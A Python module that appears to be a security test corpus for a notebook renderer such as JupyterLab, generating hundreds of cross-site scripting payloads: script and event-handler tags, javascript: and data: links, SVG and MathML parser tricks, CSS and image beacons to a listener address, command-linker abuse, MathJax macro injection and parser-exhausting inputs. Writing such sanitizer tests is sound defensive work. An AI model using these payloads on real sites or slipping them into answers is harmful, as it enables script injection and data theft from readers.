"""Answers that try to run something, or to fetch something, in the reader's browser.

Each sets `__hacked` in its own window and in those around it, or asks `LEAK` for an address. They
come in families: what is attacked (a tag, a link, a formula ...) times how it is written.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count, product
from typing import Any

JS = "__JS__"  # a script that notes the name of the attack
URL = "__URL__"  # an address at the listener, unique to the attack
BACKSLASH = "\\"


@dataclass(frozen=True)
class Attack:
    """One answer; `name` is what it writes into `__hacked` or asks the listener for."""

    name: str
    answer: str


def corpus(leak: str) -> list[Attack]:
    """All attacks, each with addresses below `leak`."""
    numbers = count()
    return [
        Attack(name := f"{family.__name__}-{next(numbers)}", armed(name, text, leak))
        for family in FAMILIES
        for text in family()
    ]


def armed(name: str, given: Any, leak: str) -> Any:
    """Return a text, or what holds texts, with its script and address filled in."""
    match given:
        case dict():
            return {armed(name, key, leak): armed(name, one, leak) for key, one in given.items()}
        case list():
            return [armed(name, one, leak) for one in given]
        case str():
            script = f"top.__hacked=parent.__hacked=window.__hacked='{name}'"
            return given.replace(JS, script).replace(URL, f"{leak}/leak/{name}")
    return given


def scripts() -> Iterator[str]:
    """Script elements in every spelling."""
    yield from (
        f"<script>{JS}</script>",
        f"<SCRIPT>{JS}</SCRIPT>",
        f"<script\n>{JS}</script\n>",
        f"<script/x>{JS}</script>",
        f"<script src={URL}></script>",
        f"<script type=module>{JS}</script>",
        f"<script>{JS}",
        f"<<script>{JS}//<</script>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>",
        f"<scr\0ipt>{JS}</script>",
        f"</p></div></pre><script>{JS}</script>",
        f"text\n\n<script>\n\n{JS}\n\n</script>\n\ntext",
        f"- <script>{JS}</script>",
        f"> <script>{JS}</script>",
        f"# <script>{JS}</script>",
        f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
        f"&lt;script&gt;{JS}&lt;/script&gt;",
        f"&#60;script&#62;{JS}&#60;/script&#62;",
        f"\\<script>{JS}\\</script>",
        f"<script>{JS}</script>\r\n\r\n\ufeff<script>{JS}</script>",
        f"<script>Jupyter=1;require(['base/js/namespace'],()=>{{{JS}}})</script>",
    )


def events() -> Iterator[str]:
    """Event attributes on elements that fire on their own."""
    tags = (
        f"img src=x onerror={JS}",
        f"img src={URL} onload={JS}",
        f"svg onload={JS}",
        f"svg><animate onbegin={JS} attributeName=x dur=1s",
        f"body onload={JS}",
        f"body onpageshow={JS}",
        f"input autofocus onfocus={JS}",
        f"select autofocus onfocus={JS}",
        f"textarea autofocus onfocus={JS}",
        f"button autofocus onfocus={JS}",
        f"details open ontoggle={JS}",
        f"video src=x onerror={JS}",
        f"video><source onerror={JS} src=x",
        f"audio src=x onerror={JS}",
        f"iframe onload={JS}",
        f"object data=x onerror={JS}",
        f"embed src={URL} onload={JS}",
        f"marquee onstart={JS}",
        f"style onload={JS}",
        f"link rel=stylesheet href={URL} onload={JS}",
        f"div style='animation:x 1s' onanimationstart={JS}",
        f"a href=x id=x tabindex=1 autofocus onfocus={JS}",
        f"img srcset={URL} onerror={JS}",
        f"image src=x onerror={JS}",
        f"x contenteditable autofocus onfocus={JS}",
    )
    for tag in tags:
        yield f"<{tag}>"
    for tag in tags[:12]:
        yield f"Some **text** <{tag}/>\n\n| a |\n|---|\n| <{tag}> |"
        yield tag.replace(" ", "/").join(("<", ">"))


def frames() -> Iterator[str]:
    """Documents within the document, and things that move or refresh the page."""
    yield from (
        f'<iframe src="javascript:{JS}"></iframe>',
        f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
        f"<iframe src={URL}></iframe>",
        f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
        f'<object data="data:text/html,<script>{JS}</script>"></object>',
        f"<object data={URL}></object>",
        f'<embed src="javascript:{JS}">',
        f"<embed src={URL}>",
        f"<frameset><frame src={URL}></frameset>",
        f'<meta http-equiv="refresh" content="0;url={URL}">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
        f'<base href="{URL}/"><img src=x>',
        f'<base href="javascript:{JS}//">\n\n[x](http://x.org)',
        f'<form action="{URL}"><input type=submit autofocus></form>',
        f'<form id=f action="{URL}"></form><button form=f formaction="javascript:{JS}">x</button>',
        f"<portal src={URL}></portal>",
        f"<fencedframe src={URL}></fencedframe>",
        f"<link rel=prefetch href={URL}>",
        f'<link rel="dns-prefetch preconnect" href="{URL}">',
        f"<link rel=import href={URL}>",
        f"<table background={URL}><tr><td>x</table>",
        f"<body background={URL}>",
        f"<video poster={URL}></video>",
        f"<track src={URL}>",
        f"<input type=image src={URL}>",
        f'<a href="http://x.org" ping="{URL}">x</a>',
    )


def vectors() -> Iterator[str]:
    """SVG and MathML, and what parsers read differently the second time."""
    yield from (
        f"<svg><script>{JS}</script></svg>",
        f"<svg><script href={URL} /></svg>",
        f'<svg><a xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={JS}>#x"/></svg>',
        f"<svg><image href={URL} /></svg>",
        f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
        f'<svg><set attributeName=href to="javascript:{JS}"/></svg>',
        f"<svg><style>*{{background:url({URL})}}</style></svg>",
        f'<math><maction actiontype="statusline#{URL}" href="javascript:{JS}">x</maction></math>',
        f'<math href="javascript:{JS}">x</math>',
        f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
        f"<math><annotation-xml encoding=text/html><script>{JS}</script></annotation-xml></math>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>",
        f'<svg></p><style><a id="</style><img src=x onerror={JS}>">',
        f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
        f'<xmp><p title="</xmp><img src=x onerror={JS}>">',
        f'<textarea><p title="</textarea><img src=x onerror={JS}>">',
        f'<title><p title="</title><img src=x onerror={JS}>">',
        f"<template><script>{JS}</script></template>",
        f"<select><template shadowrootmode=open><img src=x onerror={JS}></template></select>",
        f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>",
        f"<!--><img src=x onerror={JS}>-->",
        f"<!-- --!><img src=x onerror={JS}> -->",
        f"<![CDATA[<img src=x onerror={JS}>]]>",
        f"<?xml-stylesheet href='javascript:{JS}'?><img src=x onerror={JS}>",
        f'<!DOCTYPE x [<!ENTITY y SYSTEM "{URL}">]><x>&y;</x>',
        f"<plaintext><img src=x onerror={JS}>",
        f"<a href='\"><img src=x onerror={JS}>'>x</a>",
        f"`<img src=x` onerror={JS}>`",
        f"<img src=x onerror\n=\n{JS}",
        f"a<b>c</b onmouseover={JS}>",
        f"<form name=jupyterapp><input name=commands><img src=x onerror={JS}>",
    )


SCHEMES = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;&#x61;vascript:{JS}",
    f"java\tscript:{JS}",
    f"java&Tab;script:{JS}",
    f"java&NewLine;script:{JS}",
    f"\x01javascript:{JS}",
    f"&#1;javascript:{JS}",
    f"%6Aavascript:{JS}",
    f"javascript\\:{JS}",
    f"vbscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19oYWNrZWQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={JS}>",
    f"view-source:javascript:{JS}",
    f"blob:javascript:{JS}",
    f"feed:javascript:{JS}",
    f"//x.org/%0ajavascript:{JS}",
    f"http:javascript:{JS}",
    f"https:/\njavascript:{JS}",
    "file:///etc/passwd",
    "/lab?reset",
    "#x",
)
FORMS = (
    "[click]({})",
    "[click](<{}>)",
    '[click](<{}> "title")',
    "[click][ref]\n\n[ref]: {}",
    "[click]\n\n[click]: <{}>",
    "<{}>",
)


def links() -> Iterator[str]:
    """Schemes that run something, in every form Markdown has for links."""
    for scheme, form in product(SCHEMES, FORMS):
        yield form.format(scheme)


def link_parts() -> Iterator[str]:
    """Attributes and tags smuggled through the parts of links."""
    quoted = f'" onmouseover="{JS}" autofocus onfocus="{JS}" x="'
    yield from (
        f"[x](http://x.org '{quoted}')",
        f"[x](http://x.org/{quoted.replace(' ', '%20')})",
        f"[x](<http://x.org/{quoted}>)",
        f'[x](http://x.org "\\"><script>{JS}</script>")',
        f"[x](http://x.org '&quot;><img src=x onerror={JS}>')",
        f"<http://x.org/{quoted.replace(' ', '/')}>",
        f"<http://x.org/'onmouseover='{JS}'>",
        f"[<img src=x onerror={JS}>](http://x.org)",
        f"[x\n\n]: http://x.org '{quoted}'\n\n[x]",
        f"[r]: http://x.org '{quoted}'\n\n[r]",
        f"[`<script>{JS}</script>`](http://x.org)",
        f"[a](http://x.org)[b](javascript:{JS})",
        f"[![x](http://x.org/y)](javascript:{JS})",
        f'[x](http://x.org\\" onclick=\\"{JS})',
        f"[x](mailto:a@b.c?body=<script>{JS}</script>)",
        f'<mailto:a@b.c"onclick="{JS}>',
        f"[^1]\n\n[^1]: <img src=x onerror={JS}>",
        f'http://x.org/"onmouseover="{JS}',
    )


def images() -> Iterator[str]:
    """Pictures whose fetching tells someone something, or that are no pictures."""
    yield from (
        f"![x]({URL})",
        f"![]({URL})",
        f'![x]({URL} "title")',
        f"![x](<{URL}>)",
        f"![x][r]\n\n[r]: {URL}",
        f"![r]\n\n[r]: <{URL}> 'title'",
        f"[![x]({URL})](http://x.org)",
        f"[![x]({URL})]({URL})",
        f"| a |\n|---|\n| ![x]({URL}) |",
        f"- ![x]({URL})",
        f"# ![x]({URL})",
        f"> ![x]({URL})",
        f"**![x]({URL})**",
        f"![![x]({URL})]({URL})",
        f'![" onerror="{JS}](x)',
        f'![x](x"onerror="{JS})',
        f"![<img src=x onerror={JS}>](http://x.org)",
        f"![x](javascript:{JS})",
        f"![x](data:image/svg+xml,<svg%20onload={JS}>)",
        f"![x](data:text/html,<script>{JS}</script>)",
        f"![x]({URL}?cookie= 'y' onerror={JS})",
        f"<img src={URL}>",
        f"<picture><source srcset={URL}><img></picture>",
    )


def code() -> Iterator[str]:
    """Code that wants to be more than shown."""
    payload = f"<img src=x onerror={JS}>"
    for info in (
        f'python" onmouseover="{JS}',
        f'"><script>{JS}</script>',
        f"html onload={JS}",
        payload.replace(" ", "/"),
        "&quot;&gt;&lt;script&gt;",
        "{.python onclick=x}",
        "javascript:alert(1)",
        "../../etc/passwd",
        "a" * 5000,
    ):
        yield f"```{info}\n{payload}\n```"
        yield f"~~~ {info}\n{payload}\n~~~"
    for language in ("html", "js", "css", "svg", "diff", "md", "console", "xml", "php", "mermaid"):
        yield f"```{language}\n<style>*{{background:url({URL})}}</style></pre>{payload}\n```"
    yield from (
        f"`{payload}`",
        f"``` {payload} ```",
        f"    {payload}",
        f"`</code>{payload}`",
        f"```\n</pre></div>{payload}",
        f"```html\n{payload}",
        f"- ```\n  {payload}",
    )


def styles() -> Iterator[str]:
    """Style sheets that fetch, cover the page, or read what was typed."""
    yield from (
        f"<style>body{{background:url({URL})}}</style>",
        f"<style>@import url({URL});</style>",
        f"<style>@font-face{{font-family:x;src:url({URL})}}*{{font-family:x}}</style>",
        f'<style>input[value^="a"]{{background:url({URL})}}</style>',
        f'<div style="background:url({URL})">x</div>',
        f'<p style="background-image:url({URL})">x</p>',
        f'<li style="list-style:url({URL})">x</li>',
        f'<div style="content:url({URL})">x</div>',
        f'<div style="cursor:url({URL}),auto;position:fixed;inset:0">x</div>',
        f"<link rel=stylesheet href={URL}>",
        f"| a |\n|:--{{background:url({URL})}}|\n| x |",
        f'<div style="width:expression({JS})">x</div>',
    )


def commands() -> Iterator[str]:
    """What JupyterLab itself gives a meaning to."""
    arguments = json.dumps({"code": JS})
    yield from (
        '<button data-commandlinker-command="notebook:run-cell" autofocus>x</button>',
        '<a data-commandlinker-command="notebook:run-all-cells" href="#">x</a>',
        f"<b data-commandlinker-command=console:inject data-commandlinker-args='{arguments}'>x</b>",
        '[x](http://x.org "data-commandlinker-command=\\"notebook:run-cell\\"")',
        "[x](commandlinker:notebook:run-cell)",
        f"<div class=jp-RenderedJavaScript>{JS}</div>",
        f"<script type=application/vnd.jupyter.widget-view+json>{JS}</script>",
        f"<script type='text/x-mathjax-config'>{JS}</script>",
        f'<div class="lm-Widget" data-mime-type="application/javascript">{JS}</div>',
        f'```mermaid\ngraph TD; a-->b; click a href "javascript:{JS}"\n```',
        f'```mermaid\ngraph TD; a["<img src=x onerror={JS}>"]\n```',
        f"```{{raw}} html\n<script>{JS}</script>\n```",
        f'::: {{.x onclick="{JS}"}}\nx\n:::',
        f'[x]{{onclick="{JS}"}}',
        f'# x {{#y onclick="{JS}"}}',
        f"%%html\n<script>{JS}</script>",
        f"%%javascript\n{JS}",
        f"---\ntitle: <script>{JS}</script>\n---\n",
    )


TEX = (
    rf"\href{{javascript:{JS}}}{{click}}",
    rf"\href {{javascript:{JS}}} {{click}}",
    r"\href{data:text/html,<script>top.__hacked=1</script>}{x}",
    rf"\url{{javascript:{JS}}}",
    rf"\text{{\href{{javascript:{JS}}}{{x}}}}",
    rf"\begin{{matrix}} \href{{javascript:{JS}}}{{x}} \end{{matrix}}",
    rf"\style{{background:url({URL})}}{{x}}",
    r"\class{jp-Button}{x}",
    r"\cssId{jupyterapp}{x}",
    rf"\data{{x=y}}{{z}}\href{{javascript:{JS}}}{{x}}",
    rf"\bbox[background:url({URL})]{{x}}",
    rf"\bbox[5px,border:1px;background-image:url({URL})]{{x}}",
    rf"\require{{html}}\href{{javascript:{JS}}}{{x}}",
    rf"\require{{{URL}}}x",
    rf'\mmlToken{{mi}}[href="javascript:{JS}"]{{x}}',
    rf'\mmlToken{{mtext}}[onclick="{JS}"]{{x}}',
    rf'\enclose{{box}}[href="javascript:{JS}"]{{x}}',
    rf"\def\x#1{{\href{{javascript:{JS}}}{{#1}}}}\x{{y}}",
    rf"\newcommand\x{{\href}}\x{{javascript:{JS}}}{{y}}",
    rf"\let\x\href \x{{javascript:{JS}}}{{y}}",
    r"\def\frac#1#2{hacked}\frac12",
    r"\def\x{\x\x}\x",
    rf"\newenvironment{{x}}{{\href{{javascript:{JS}}}{{y}}}}{{}}\begin{{x}}\end{{x}}",
    rf"\csname href\endcsname{{javascript:{JS}}}{{x}}",
    rf"\unicode[x;background:url({URL})]{{x41}}",
    rf"\color{{red;background:url({URL})}}x",
    rf"\colorbox{{url({URL})}}{{x}}",
    rf"\includegraphics{{{URL}}}",
    rf"\text{{<img src=x onerror={JS}>}}",
    rf"<img src=x onerror={JS}>",
    rf"x</span><script>{JS}</script>",
    rf"\begin{{x}}<script>{JS}</script>\end{{x}}",
    rf"\texttip{{x}}{{<img src=x onerror={JS}>}}",
    rf"\tag{{<img src=x onerror={JS}>}} x",
    rf"\label{{x\" onclick=\"{JS}}}\ref{{x\" onclick=\"{JS}}}",
    rf"\unknown<img src=x onerror={JS}>",
    rf"\verb|<img src=x onerror={JS}>|",
    "{" * 2000 + "x" + "}" * 2000,
    r"\frac{1}{" * 300 + "x" + "}" * 300,
    r"\left(" * 300 + "x" + r"\right)" * 300,
)
DELIMITERS = ("${}$", "$${}$$", r"\({}\)", r"\[{}\]", "\\begin{{align}}{}\\end{{align}}")


def formulas() -> Iterator[str]:
    """MathJax commands that make links, styles, ids and macros, in all delimiters."""
    for tex, delimiters in product(TEX, DELIMITERS):
        yield delimiters.format(tex)
    for tex in TEX[:8]:
        # Prose in which nothing may be typeset.
        yield f"costs $5 {tex} and 6$ or \\\\({tex}\\\\) or `\\({tex}\\)` or \\$${tex}$"


def whole_answers() -> Iterator[str]:
    """Long-winded ones: attacks hidden within ordinary answers."""
    for text in (*scripts(), *styles()):
        yield f"## Result\n\n1. one\n2. two\n   {text}\n\n| a | b |\n|---|---|\n| {text} | $x$ |\n"
    yield f"\u202e<script>{JS}</script>\u202c"
    yield f"\u200b<scr\u200bipt>{JS}</script>"
    yield f"\ufffe<img src=x onerror={JS}>"
    yield f"<img src=x onerror=\u2028{JS}\u2028>"
    yield "> " * 200 + f"<script>{JS}</script>"
    yield "\n".join("  " * n + f"- <script>{JS}</script>" for n in range(60))
    yield "[" * 500 + f"](javascript:{JS})"
    yield "*" * 501 + f"<img src=x onerror={JS}>" + "*" * 499


FAMILIES = (
    scripts,
    events,
    frames,
    vectors,
    links,
    link_parts,
    images,
    code,
    styles,
    commands,
    formulas,
    whole_answers,
)
